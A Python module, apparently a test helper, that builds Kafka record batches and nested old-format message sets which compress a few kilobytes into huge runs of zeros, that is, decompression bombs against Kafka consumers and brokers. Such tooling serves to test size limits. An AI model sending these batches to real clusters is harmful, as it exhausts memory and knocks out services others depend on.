"""Batches of a few kilobytes that hold very much: what a producer can write that means harm."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator, Mapping
from struct import Struct
from typing import Final

import cramjam
import google_crc32c

ZSTD: Final = 4
GZIP: Final = 1
CODECS: Final[Mapping[str, int]] = {"gzip": GZIP, "snappy": 2, "lz4": 3, "zstd": ZSTD}
_SLICE: Final = bytes(1 << 20)
_FRONT: Final = Struct(">qiibI")
_HEADER: Final = Struct(">hiqqqhii")
_OLD_FRONT: Final = Struct(">qiI")
_OLD_HEADER: Final = Struct(">bbqii")


def bomb(codec: str, value_bytes: int) -> bytes:
    """Makes a batch of one record, whose value is zeros.

    Args:
        codec: `gzip`, `snappy`, `lz4` or `zstd`.
        value_bytes: Below 2 GiB.
    """
    inner = b"\0\0\0" + _zigzag(1) + b"k" + _zigzag(value_bytes)
    length = len(inner) + value_bytes + 1
    records = packed(codec, _pieces(_zigzag(length) + inner, value_bytes, b"\0"))
    covered = _HEADER.pack(CODECS[codec], 0, 1_000, 1_000, -1, -1, -1, 1) + records
    return _FRONT.pack(0, 9 + len(covered), -1, 2, google_crc32c.value(covered)) + covered


def old_bomb(codec: str, value_bytes: int, *, wrapped: int = 1) -> bytes:
    """Makes a message of magic 1 that wraps one whose value is zeros; `wrapped` times, where once is what there is."""
    front = _OLD_HEADER.pack(1, 0, 1_000, -1, value_bytes)
    inner = packed(codec, _pieces(_OLD_FRONT.pack(0, 4 + len(front) + value_bytes, 0) + front, value_bytes, b""))
    for _ in range(1, wrapped):
        inner = packed(codec, [_wrap(codec, inner)])
    return _wrap(codec, inner)


def _wrap(codec: str, inner: bytes) -> bytes:
    front = _OLD_HEADER.pack(1, CODECS[codec], 1_000, -1, len(inner))
    return _OLD_FRONT.pack(0, 4 + len(front) + len(inner), zlib.crc32(front + inner)) + front + inner


def packed(codec: str, pieces: Iterator[bytes] | list[bytes]) -> bytes:
    """Compresses as Kafka's clients do; what is compressed need not be in memory as a whole."""
    return _PACKERS[codec](pieces)


def _pieces(front: bytes, zeros: int, tail: bytes) -> Iterator[bytes]:
    yield front
    for at in range(0, zeros, len(_SLICE)):
        yield _SLICE[: min(zeros - at, len(_SLICE))]
    yield tail


def _gzip(pieces: Iterator[bytes] | list[bytes]) -> bytes:
    packer = zlib.compressobj(wbits=31)
    return b"".join([packer.compress(piece) for piece in pieces]) + packer.flush()


def _snappy(pieces: Iterator[bytes] | list[bytes]) -> bytes:
    return bytes(cramjam.snappy.compress_raw(b"".join(pieces)))


def _lz4(pieces: Iterator[bytes] | list[bytes]) -> bytes:
    packer = cramjam.lz4.Compressor(block_linked=False)
    for piece in pieces:
        packer.compress(piece)
    return bytes(packer.finish())


def _zstd(pieces: Iterator[bytes] | list[bytes]) -> bytes:
    packer = cramjam.zstd.Compressor()
    for piece in pieces:
        packer.compress(piece)
    return bytes(packer.finish())


_PACKERS: Final[Mapping[str, Callable[[Iterator[bytes] | list[bytes]], bytes]]] = {
    "gzip": _gzip,
    "snappy": _snappy,
    "lz4": _lz4,
    "zstd": _zstd,
}


def _zigzag(value: int) -> bytes:
    value <<= 1
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes(out) + bytes([value])
